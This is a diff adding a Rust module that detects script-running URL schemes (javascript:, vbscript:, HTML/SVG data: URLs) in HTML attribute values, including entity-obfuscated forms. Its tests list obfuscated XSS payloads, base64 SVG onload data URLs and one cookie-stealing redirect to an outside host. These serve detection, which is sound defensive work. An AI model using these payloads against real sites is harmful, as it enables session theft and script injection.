@@ -1,0 +1,344 @@
+//! Script-running URL schemes, seen the way a browser sees an attribute value: character
+//! references decoded (`&#106;`, `&#x09;`, `&colon;`, with or without `;`), then tab, newline
+//! and other control characters removed, then lower-cased.
+
+use super::js_sink::{find_sinks, js_view};
+use super::Hit;
+use base64::Engine as _;
+
+/// Only the start of a URL decides its scheme; attribute values are decoded up to this size.
+const MAX_DECODE: usize = 4096;
+
+/// A script-running scheme found at the start of a URL.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Scheme {
+    Javascript,
+    Vbscript,
+    /// `data:` whose media type (or base64 payload) is HTML, SVG or XML.
+    DataMarkup,
+}
+
+impl Scheme {
+    pub fn label(self) -> &'static str {
+        match self {
+            Scheme::Javascript => "javascript:",
+            Scheme::Vbscript => "vbscript:",
+            Scheme::DataMarkup => "data: with HTML/SVG content",
+        }
+    }
+}
+
+fn named_entity(name: &str) -> Option<char> {
+    // The references attackers use to hide a scheme or a call; unknown names stay literal.
+    Some(match name {
+        "colon" => ':',
+        "tab" => '\t',
+        "newline" => '\n',
+        "lpar" => '(',
+        "rpar" => ')',
+        "sol" => '/',
+        "bsol" => '\\',
+        "period" => '.',
+        "comma" => ',',
+        "semi" => ';',
+        "equals" => '=',
+        "quot" => '"',
+        "apos" => '\'',
+        "grave" => '`',
+        "lt" => '<',
+        "gt" => '>',
+        "amp" => '&',
+        "excl" => '!',
+        "num" => '#',
+        "plus" => '+',
+        "lsqb" | "lbrack" => '[',
+        "rsqb" | "rbrack" => ']',
+        "lcub" | "lbrace" => '{',
+        "rcub" | "rbrace" => '}',
+        "nbsp" => '\u{a0}',
+        _ => return None,
+    })
+}
+
+/// Decodes character references once, as the HTML tokenizer does inside attribute values.
+/// Numeric references may lack the `;` and carry leading zeros (`&#0000106`). Bounded by
+/// [`MAX_DECODE`] input bytes. Returns `None` (no allocation) when there is no `&`.
+pub fn decode_entities(s: &str) -> Option<String> {
+    memchr::memchr(b'&', s.as_bytes())?;
+    let mut out = String::with_capacity(s.len().min(MAX_DECODE));
+    let mut rest = s;
+    while let Some(p) = rest.find('&') {
+        if out.len() >= MAX_DECODE {
+            return Some(out);
+        }
+        out.push_str(&rest[..p]);
+        let after = &rest[p + 1..];
+        match decode_one(after) {
+            Some((c, used)) => {
+                out.push(c);
+                rest = &after[used..];
+            }
+            None => {
+                out.push('&');
+                rest = after;
+            }
+        }
+    }
+    out.push_str(rest);
+    Some(out)
+}
+
+/// Decodes one reference after its `&`; returns the char and the bytes consumed.
+fn decode_one(after: &str) -> Option<(char, usize)> {
+    let b = after.as_bytes();
+    if b.first() == Some(&b'#') {
+        let hex = matches!(b.get(1), Some(b'x' | b'X'));
+        let start = if hex { 2 } else { 1 };
+        let mut i = start;
+        let mut v: u32 = 0;
+        while i < b.len() && i < start + 32 {
+            let d = if hex {
+                (b[i] as char).to_digit(16)
+            } else {
+                (b[i] as char).to_digit(10)
+            };
+            let Some(d) = d else { break };
+            v = v.saturating_mul(if hex { 16 } else { 10 }).saturating_add(d);
+            i += 1;
+        }
+        if i == start {
+            return None;
+        }
+        if b.get(i) == Some(&b';') {
+            i += 1;
+        }
+        let c = char::from_u32(v).unwrap_or('\u{fffd}');
+        return Some((c, i));
+    }
+    let len = b.iter().take(10).take_while(|c| c.is_ascii_alphabetic()).count();
+    if len == 0 {
+        return None;
+    }
+    let name = after[..len].to_ascii_lowercase();
+    let c = named_entity(&name)?;
+    let used = if b.get(len) == Some(&b';') { len + 1 } else { len };
+    Some((c, used))
+}
+
+/// The start of a URL as its scheme parser sees it: control characters and spaces removed
+/// (browsers strip leading ones and drop tab/newline anywhere), lower-cased, at most `n` chars.
+pub fn normalized_prefix(decoded: &str, n: usize) -> String {
+    decoded
+        .chars()
+        .filter(|&c| c > ' ' && c != '\u{7f}' && c != '\u{a0}')
+        .take(n)
+        .flat_map(char::to_lowercase)
+        .collect()
+}
+
+/// The scheme of an attribute's URL value, after entity decoding and whitespace removal.
+/// Returns the scheme and whether decoding or whitespace removal was needed to see it.
+pub fn url_attr_scheme(raw: &str) -> Option<(Scheme, bool)> {
+    let decoded = decode_entities(raw);
+    let text = decoded.as_deref().unwrap_or(raw);
+    let prefix = normalized_prefix(text, 200);
+    let scheme = scheme_of(&prefix, text)?;
+    let plain = raw.trim_start().to_ascii_lowercase();
+    let obfuscated = !plain.starts_with(&prefix[..prefix.find(':').unwrap_or(0) + 1]);
+    Some((scheme, obfuscated))
+}
+
+/// Scheme of an already normalized prefix; `full` is the decoded text (for base64 data URLs).
+pub fn scheme_of(prefix: &str, full: &str) -> Option<Scheme> {
+    // Old browsers let a feed:/jar: wrapper carry a javascript: URL; strip such wrappers once.
+    let p = prefix
+        .strip_prefix("feed:")
+        .or_else(|| prefix.strip_prefix("jar:"))
+        .unwrap_or(prefix);
+    if p.starts_with("javascript:") || p.starts_with("livescript:") || p.starts_with("mocha:") {
+        return Some(Scheme::Javascript);
+    }
+    if p.starts_with("vbscript:") {
+        return Some(Scheme::Vbscript);
+    }
+    let data = p.strip_prefix("data:")?;
+    let (meta, payload_start) = match data.find(',') {
+        Some(c) => (&data[..c], Some(c + 1)),
+        None => (data, None),
+    };
+    let markup_type = ["text/html", "image/svg", "application/xhtml", "text/xml", "application/xml"]
+        .iter()
+        .any(|t| meta.starts_with(t));
+    if markup_type {
+        return Some(Scheme::DataMarkup);
+    }
+    // data:;base64,PHN2Zy... or data:,<script>: look at what the payload decodes to.
+    let payload = payload_start.map(|_| {
+        let at = full.find(',').map_or(full.len(), |c| c + 1);
+        &full[at..]
+    })?;
+    let head: String = payload.chars().filter(|c| !c.is_whitespace()).take(64).collect();
+    if meta.ends_with("base64") {
+        let cut = head.len() - head.len() % 4;
+        let bytes = base64::engine::general_purpose::STANDARD
+            .decode(head[..cut].as_bytes())
+            .unwrap_or_default();
+        let lower = String::from_utf8_lossy(&bytes).to_ascii_lowercase();
+        let lower = lower.trim_start();
+        if lower.starts_with("<svg") || lower.starts_with("<script") || lower.starts_with("<html")
+            || lower.starts_with("<?xml") || lower.starts_with("<!doctype") || lower.starts_with("<img")
+            || lower.starts_with("<iframe") || lower.starts_with("<body")
+        {
+            return Some(Scheme::DataMarkup);
+        }
+    } else if meta.is_empty() && head.starts_with('<') {
+        return Some(Scheme::DataMarkup);
+    }
+    None
+}
+
+
+/// Script-running URLs anywhere in a value (the value may become an `href`, or carry one as a
+/// parameter: `?next=javascript:alert(1)`). At the start of the value any JS-like rest counts;
+/// inside text the URL must use a sink, since "JavaScript: the good parts" is a book title.
+pub fn inspect_text(text: &str) -> Option<Hit> {
+    let decoded = decode_entities(text);
+    let full = decoded.as_deref().unwrap_or(text);
+    // Tab, CR and LF vanish inside URLs; keep spaces (they end a URL in running text).
+    let flat: String = full
+        .chars()
+        .filter(|c| !matches!(c, '\t' | '\n' | '\r' | '\0'))
+        .take(MAX_DECODE)
+        .flat_map(char::to_lowercase)
+        .collect();
+    let lead = normalized_prefix(full, 200);
+    let mut best: Option<Hit> = None;
+    if let Some(scheme) = scheme_of(&lead, full) {
+        let rest = lead.split_once(':').map_or("", |(_, r)| r);
+        let rest = rest.strip_prefix("javascript:").unwrap_or(rest);
+        let h = match scheme {
+            Scheme::DataMarkup => Some(Hit::new(0.8, "value is a data: URL with HTML/SVG content")),
+            _ if !find_sinks(&js_view(rest)).is_empty() => {
+                Some(Hit::new(0.9, format!("value is a {} URL calling a JS sink", scheme.label())))
+            }
+            _ if rest.contains(['(', ';', '=', '\'', '"', '`', '[']) && !is_void(rest) => {
+                Some(Hit::new(0.6, format!("value is a {} URL with code", scheme.label())))
+            }
+            _ => None,
+        };
+        best = h;
+    }
+    if best.is_none() {
+        for (p, _) in flat.match_indices("script:").take(16) {
+            let start = flat[..p]
+                .char_indices()
+                .rev()
+                .find(|(_, c)| !c.is_ascii_alphabetic())
+                .map_or(0, |(i, c)| i + c.len_utf8());
+            let word = &flat[start..p];
+            if word != "java" && word != "vb" && word != "live" {
+                continue;
+            }
+            let rest: String = flat[p + 7..].chars().take(200).collect();
+            if let Some(s) = find_sinks(&js_view(&rest)).first() {
+                best = Some(Hit::new(0.85, format!("{word}script: URL in value calling {}", s.name)));
+                break;
+            }
+        }
+    }
+    if best.is_none() {
+        for (p, _) in flat.match_indices("data:").take(16) {
+            let pre = flat[..p].chars().next_back();
+            if pre.is_some_and(|c| c.is_ascii_alphanumeric()) {
+                continue;
+            }
+            let tail = &flat[p..];
+            let tail_prefix = normalized_prefix(tail, 200);
+            if scheme_of(&tail_prefix, tail) == Some(Scheme::DataMarkup) {
+                best = Some(Hit::new(0.75, "data: URL with HTML/SVG content in value"));
+                break;
+            }
+        }
+    }
+    best
+}
+
+/// `javascript:void(0)` and friends do nothing.
+fn is_void(rest: &str) -> bool {
+    let r: String = rest.chars().filter(|c| !c.is_whitespace()).collect();
+    r.is_empty() || r.starts_with("void(0)") || r.starts_with("void0") || r == ";" || r.starts_with("return false")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn entity_decoding_with_and_without_semicolons() {
+        assert_eq!(decode_entities("&#106;avascript").unwrap(), "javascript");
+        assert_eq!(decode_entities("&#0000106&#0000097").unwrap(), "ja");
+        assert_eq!(decode_entities("&#x6A;&#X61").unwrap(), "ja");
+        assert_eq!(decode_entities("a&colon;b&Tab;c&lpar;").unwrap(), "a:b\tc(");
+        assert_eq!(decode_entities("Tom &amp; Jerry & co &unknown;").unwrap(), "Tom & Jerry & co &unknown;");
+        assert!(decode_entities("no refs").is_none());
+        assert_eq!(decode_entities("&#99999999999999;").unwrap(), "\u{fffd}");
+    }
+
+    #[test]
+    fn obfuscated_javascript_schemes() {
+        for v in [
+            "javascript:alert(1)",
+            "JaVaScRiPt:alert(1)",
+            "java&#x09;script:alert(1)",
+            "&#106;avascript:alert(1)",
+            "jav\tascript:alert(1)",
+            " \n javascript&colon;alert(1)",
+            "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
+        ] {
+            assert_eq!(url_attr_scheme(v).map(|s| s.0), Some(Scheme::Javascript), "{v}");
+        }
+        assert_eq!(url_attr_scheme("java&#x09;script:x"), Some((Scheme::Javascript, true)));
+        assert_eq!(url_attr_scheme("javascript:x"), Some((Scheme::Javascript, false)));
+        assert_eq!(url_attr_scheme("vbscript:msgbox(1)").map(|s| s.0), Some(Scheme::Vbscript));
+    }
+
+    #[test]
+    fn data_urls() {
+        assert_eq!(url_attr_scheme("data:text/html,<script>alert(1)</script>").map(|s| s.0), Some(Scheme::DataMarkup));
+        assert_eq!(url_attr_scheme("data:text/html;base64,PHNjcmlwdD4=").map(|s| s.0), Some(Scheme::DataMarkup));
+        // base64 of "<svg/onload=alert(2)>" with a generic type
+        assert_eq!(url_attr_scheme("data:;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMik+").map(|s| s.0), Some(Scheme::DataMarkup));
+        assert_eq!(url_attr_scheme("data:image/png;base64,iVBORw0KGgo="), None);
+    }
+
+    #[test]
+    fn schemes_in_values() {
+        for t in [
+            "javascript:alert(1)//INJECTX",
+            "  JAVASCRIPT:document.location='//e/'+document.cookie",
+            "?baseurl=asfunction:getURL,javascript:alert(1)//",
+            "{\"url\":\"javascript&#10:alert(7)\"}",
+            "data:text/html,<script>alert(0)</script>",
+            "x=data:text/html;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMik+",
+            "vbscript:msgbox(1)",
+        ] {
+            assert!(inspect_text(t).is_some_and(|h| h.score >= 0.5), "{t}");
+        }
+        for t in [
+            "JavaScript: The Good Parts",
+            "javascript:void(0)",
+            "I learned javascript: it was fun; alerting people",
+            "data: 3 rows",
+            "https://example.org/?q=javascript",
+        ] {
+            assert!(inspect_text(t).is_none(), "{t}");
+        }
+    }
+
+    #[test]
+    fn ordinary_urls_pass() {
+        for v in ["https://example.org/a?b=c&amp;d=e", "/path/to", "mailto:a@b.c", "#top", "java.html", "javascript.html"] {
+            assert_eq!(url_attr_scheme(v), None, "{v}");
+        }
+    }
+}
